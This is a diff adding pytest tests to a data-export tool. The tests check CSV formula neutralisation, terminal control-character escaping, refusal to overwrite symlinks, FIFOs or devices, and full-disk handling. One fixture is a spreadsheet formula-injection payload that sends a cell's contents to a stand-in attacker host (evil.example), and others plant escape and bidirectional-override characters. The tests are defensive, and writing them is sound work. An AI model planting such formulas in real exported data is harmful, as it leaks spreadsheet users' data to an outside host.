@@ -3,9 +3,12 @@
 from __future__ import annotations
 
 import csv
+import errno
 import io
 import json
+import os
 import sqlite3
+import stat
 import sys
 from pathlib import Path
 from typing import Any
@@ -14,8 +17,10 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 from click.testing import CliRunner
+from full_disk import fill, small_disk  # noqa: F401 - the fixture
 from two_nights import NIGHT_1, build, two_nights_db  # noqa: F401 - the `db` fixture
 
+from orchestrator import durable
 from orchestrator.cli import main
 from orchestrator.export import ExportError, export, format_for
 
@@ -141,7 +146,7 @@ def test_export_command_to_stdout(db: Path) -> None:
 
 
 def test_export_command_takes_the_format_from_the_suffix(db: Path, tmp_path: Path) -> None:
-    out = tmp_path / "out" / "runs.parquet"
+    out = tmp_path / "runs.parquet"
     result = invoke("export", "run_details", "--db", str(db), "--out", str(out))
     assert result.exit_code == 0, result.output
     assert pq.read_table(out).column("status").to_pylist() == ["completed", "completed", "failed", "missed"]
@@ -163,3 +168,133 @@ def test_export_command_errors(db: Path, tmp_path: Path, monkeypatch: pytest.Mon
     assert result.exit_code == 1
     assert message in result.stderr
     assert list(tmp_path.iterdir()) == []
+
+
+# -- formulas in CSV ------------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def formulas(tmp_path: Path) -> Path:
+    """A log whose transcripts and errors start like spreadsheet formulas."""
+    path = tmp_path / "orchestrator.sqlite"
+    build(path, tmp_path).dispose()
+    connection = sqlite3.connect(path)
+    connection.execute("UPDATE interactions SET transcript = ? WHERE id = 1", (FORMULA,))
+    connection.execute("UPDATE interactions SET transcript = '@SUM(1+1)', error = '-2+3' WHERE id = 2")
+    connection.execute("UPDATE interactions SET transcript = '+1', error = char(9) || '=1' WHERE id = 3")
+    connection.commit()
+    connection.close()
+    return path
+
+
+def transcripts(text: str) -> list[tuple[str, str, str]]:
+    return [(r["id"], r["transcript"], r["error"]) for r in csv.DictReader(io.StringIO(text))][:3]
+
+
+def test_csv_export_neutralises_formulas(formulas: Path, tmp_path: Path) -> None:
+    out = tmp_path / "steps.csv"
+    export(formulas, "interactions", out, "csv")
+    assert transcripts(out.read_text()) == [
+        ("1", "'" + FORMULA, ""), ("2", "'@SUM(1+1)", "'-2+3"), ("3", "'+1", "'\t=1"),
+    ]
+    # Numbers stay numbers, negative ones too; JSON lines keep the text as it is.
+    export(formulas, "interactions", tmp_path / "steps.jsonl", "jsonl")
+    first = json.loads((tmp_path / "steps.jsonl").read_text().splitlines()[0])
+    assert first["transcript"] == FORMULA
+
+
+def test_csv_of_query_and_report_neutralise_formulas(formulas: Path) -> None:
+    query = invoke("query", "SELECT id, transcript, error, -1 AS n, 'x' AS \"=col\" FROM interactions ORDER BY id",
+                   "--db", str(formulas), "--format", "csv")
+    assert query.exit_code == 0, query.output
+    rows = list(csv.reader(io.StringIO(query.stdout)))
+    assert rows[0] == ["id", "transcript", "error", "n", "'=col"]
+    assert rows[1] == ["1", "'" + FORMULA, "", "-1", "x"]
+    report = invoke("report", "search", "--grep", "sum", "--db", str(formulas), "--format", "csv")
+    assert report.exit_code == 0, report.output
+    assert [r["transcript"] for r in csv.DictReader(io.StringIO(report.stdout))] == ["'@SUM(1+1)"]
+    export_to_stdout = invoke("export", "interactions", "--db", str(formulas), "--format", "csv", "--out", "-")
+    assert transcripts(export_to_stdout.stdout)[0] == ("1", "'" + FORMULA, "")
+
+
+def test_a_table_on_the_terminal_escapes_control_characters(formulas: Path) -> None:
+    connection = sqlite3.connect(formulas)
+    connection.execute("UPDATE interactions SET transcript = char(27) || '[2J' || char(8238) || 'gotcha' WHERE id = 1")
+    connection.commit()
+    connection.close()
+    result = invoke("query", "SELECT transcript FROM interactions WHERE id = 1", "--db", str(formulas))
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
+    assert "\\x1b[2J\\u202egotcha" in result.stdout
+
+
+# -- where the file goes -------------------------------------------------------------------------------
+
+
+def test_export_refuses_a_symbolic_link(db: Path, tmp_path: Path) -> None:
+    real = tmp_path / "real.csv"
+    real.write_text("keep")
+    link = tmp_path / "runs.csv"
+    link.symlink_to(real)
+    result = invoke("export", "runs", "--db", str(db), "--out", str(link))
+    assert result.exit_code == 2
+    assert f"Error: {link}: is a symbolic link" in result.stderr
+    assert link.is_symlink() and real.read_text() == "keep"
+
+
+def test_export_refuses_a_fifo(db: Path, tmp_path: Path) -> None:
+    fifo = tmp_path / "runs.csv"
+    os.mkfifo(fifo)
+    result = invoke("export", "runs", "--db", str(db), "--out", str(fifo))
+    assert result.exit_code == 2
+    assert "is a FIFO, not a regular file: refusing to replace it" in result.stderr
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
+    assert os.listdir(tmp_path) == ["runs.csv"]
+
+
+def test_export_refuses_a_device(db: Path, tmp_path: Path) -> None:
+    node = tmp_path / "full"
+    try:  # /dev/full's numbers, in a node of our own: a writer that replaces it harms nothing else
+        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
+    except PermissionError:
+        pytest.skip("making a device node needs CAP_MKNOD")
+    result = invoke("export", "runs", "--db", str(db), "--format", "csv", "--out", str(node))
+    assert result.exit_code == 2
+    assert "is a device" in result.stderr
+    assert stat.S_ISCHR(os.lstat(node).st_mode)
+
+
+def test_export_refuses_a_folder_that_does_not_exist(db: Path, tmp_path: Path) -> None:
+    out = tmp_path / "nowhere" / "runs.csv"
+    result = invoke("export", "runs", "--db", str(db), "--out", str(out))
+    assert result.exit_code == 2
+    assert f"the folder {out.parent} does not exist" in result.stderr
+    assert not out.parent.exists()
+
+
+def test_a_full_disk_keeps_the_earlier_export(db: Path, small_disk: Path) -> None:  # noqa: F811 - the fixture
+    out = small_disk / "steps.parquet"
+    assert invoke("export", "runs", "--db", str(db), "--out", str(out)).exit_code == 0
+    before = out.read_bytes()
+    fill(small_disk)
+    for fmt in ("parquet", "csv"):
+        result = invoke("export", "interaction_details", "--db", str(db), "--format", fmt, "--out", str(out))
+        assert result.exit_code == 1, result.output
+        assert f"Error: {out}: disk full" in result.stderr
+        assert result.exception is None or isinstance(result.exception, SystemExit)
+        assert out.read_bytes() == before
+        assert sorted(os.listdir(small_disk)) == ["filler", "steps.parquet"]
+
+
+def test_no_room_at_the_rename_is_a_full_disk(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """ENOSPC at the rename: the export reports a full disk and leaves no temporary file."""
+    def no_room(src: object, dst: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(durable.os, "replace", no_room)
+    result = invoke("export", "runs", "--db", str(db), "--out", str(tmp_path / "runs.csv"))
+    assert result.exit_code == 1
+    assert "disk full" in result.stderr
+    assert os.listdir(tmp_path) == []
